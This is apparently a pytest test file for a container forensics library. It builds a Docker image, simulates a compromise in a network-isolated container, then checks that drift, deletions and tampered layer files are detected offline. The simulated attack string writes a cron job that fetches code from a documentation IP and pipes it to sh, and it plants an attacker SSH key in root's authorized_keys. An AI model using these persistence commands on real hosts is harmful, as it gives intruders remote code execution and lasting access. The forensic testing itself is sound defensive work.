"""A real dockerd data root, read offline: drift, identity with ``docker save``, tamper check.

A private dockerd (overlay2, own data root under /tmp) builds an image from a busybox rootfs,
runs a container that writes a cron entry, deletes an image file and drops an SSH key, and is
STOPPED; then the data root is read as a directory and as ``tar --xattrs`` of it.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import tarfile
import tempfile
from collections.abc import Iterator
from pathlib import Path

import engines
import pandas as pd
import pytest
from conftest import require_engine, tree_digest

import layerforensics as lf
from layerforensics.host import open_host

DOCKERFILE = """\
FROM lfhost-base:1
RUN mkdir -p /etc/cron.d /opt/app /root && echo ok > /opt/app/config \\
 && echo old-secret > /opt/app/old.txt && echo keep > /opt/keep.txt
RUN rm -rf /opt/app && mkdir /opt/app && echo v2 > /opt/app/config && rm /opt/keep.txt
CMD ["sh"]
"""
ATTACK = (
    "echo '* * * * * root wget -qO- http://203.0.113.9/x | sh' > /etc/cron.d/backdoor"
    " && rm /opt/app/config && mkdir -p /root/.ssh"
    " && echo 'ssh-ed25519 AAAAC3Nza attacker@evil' > /root/.ssh/authorized_keys"
)


@pytest.fixture(scope="module")
def seized() -> Iterator[dict[str, Path]]:
    require_engine("docker")
    d = engines._Dockerd()
    work = Path(tempfile.mkdtemp(prefix="lfhost-"))
    try:
        rootfs = work / "rootfs"
        for sub in ("bin", "etc", "tmp", "root", "opt"):
            (rootfs / sub).mkdir(parents=True)
        shutil.copy2("/bin/busybox", rootfs / "bin" / "busybox")
        for applet in ("sh", "ls", "cat", "echo", "rm", "mkdir", "cp", "mv", "touch", "chmod"):
            (rootfs / "bin" / applet).symlink_to("busybox")
        (rootfs / "etc" / "passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
        base_tar = work / "base.tar"
        with tarfile.open(base_tar, "w") as t:
            t.add(rootfs, arcname=".")
        d.docker("import", str(base_tar), "lfhost-base:1")
        ctx = work / "ctx"
        ctx.mkdir()
        (ctx / "Dockerfile").write_text(DOCKERFILE)
        d.docker("build", "--network", "none", "-t", "victim:1", str(ctx))
        save = work / "victim.tar"
        d.docker("save", "-o", str(save), "victim:1")
        d.docker("run", "--network", "none", "--name", "web", "victim:1", "sh", "-c", ATTACK)
        # STOP the daemon (not yet removing its folder): the data root is now evidence.
        d.proc.send_signal(signal.SIGTERM)
        d.proc.wait(timeout=60)
        root = d.dir / "root"
        tree_tar = work / "tree.tar"
        subprocess.run(
            [
                "tar",
                "--xattrs",
                "--xattrs-include=trusted.*",
                "-C",
                str(root),
                "-cf",
                str(tree_tar),
                ".",
            ],
            check=True,
        )
        yield {"root": root, "save": save, "tar": tree_tar, "work": work}
    finally:
        d.stop()
        shutil.rmtree(work, ignore_errors=True)


FRAMES = ("files", "changes", "deleted")


def _same(host_img: lf.Image, saved: lf.Image) -> None:
    for name in FRAMES:  # every column, xattrs and mtimes included
        pd.testing.assert_frame_equal(getattr(host_img, name), getattr(saved, name), obj=name)
    pd.testing.assert_frame_equal(host_img.filesystem(), saved.filesystem(), obj="filesystem")


@pytest.mark.parametrize("form", ["root", "tar"])
def test_image_equals_docker_save(seized: dict[str, Path], form: str) -> None:
    with open_host(seized[form]) as host:
        assert host.images["tags"].map(tuple).tolist().count(("victim:1",)) == 1
        img = host.image("victim:1")
        saved = lf.open_image(seized["save"])
        assert img.image_id == saved.image_id
        _same(img, saved)
        # the opaque directory and both kinds of deletion survive the trip through the disk
        assert set(img.files.loc[img.files["type"] == "opaque", "path"]) == {
            "/opt/app/.wh..wh..opq"
        }
        assert "/opt/keep.txt" in set(img.deleted["path"])


@pytest.mark.parametrize("form", ["root", "tar"])
def test_container_drift(seized: dict[str, Path], form: str) -> None:
    with open_host(seized[form]) as host:
        cs = host.containers
        web = cs[cs["name"] == "/web"].iloc[0]
        assert web["state"] == "exited" and web["exit_code"] == 0
        assert web["image"] == "victim:1"
        c = host.container("web")
        got = {(r.path, r.change, r.type) for r in c.changes.itertuples()}
        assert got == {
            ("/etc/cron.d/backdoor", "added", "file"),
            ("/opt/app/config", "deleted", "file"),
            ("/root/.ssh", "added", "dir"),
            ("/root/.ssh/authorized_keys", "added", "file"),
        }
        assert c.read("/root/.ssh/authorized_keys") == b"ssh-ed25519 AAAAC3Nza attacker@evil\n"
        # the deleted file is still recoverable from the image layer that wrote it
        assert c.read("/opt/app/config", layer=2) == b"v2\n"
        assert c.changes["mtime"].notna().all()
        tl = host.timeline()
        assert {
            "container-created",
            "container-started",
            "container-finished",
            "file-written",
            "file-deleted",
        } <= set(tl["event"])
        assert tl["time"].is_monotonic_increasing


def test_verify_finds_the_implant_and_leaves_evidence_untouched(seized: dict[str, Path]) -> None:
    root = seized["root"]
    with open_host(root) as host:
        assert host.verify().empty
        img = host.image("victim:1")
        layer_dir = host._find_image("victim:1").layers[2].root
    target = root / layer_dir / "opt" / "app" / "config"
    st = os.stat(target)
    target.write_bytes(b"v3\n")  # same size, other bytes: only the CRC-64 can tell
    os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
    before = tree_digest(root)
    with open_host(root) as host:
        problems = host.verify()
        mine = problems[problems["image"] == "victim:1"]
        assert mine[["layer", "path", "problem"]].values.tolist() == [
            [2, "/opt/app/config", "modified"]
        ]
        # the builder's untagged intermediate images share that layer: same single file
        assert set(problems["path"]) == {"/opt/app/config"}
        host.images, host.containers, host.timeline()
        assert len(host.container("web").changes) == 4
        assert len(host.image("victim:1").files) > 0
    assert tree_digest(root) == before
    assert img.layer_count == 3
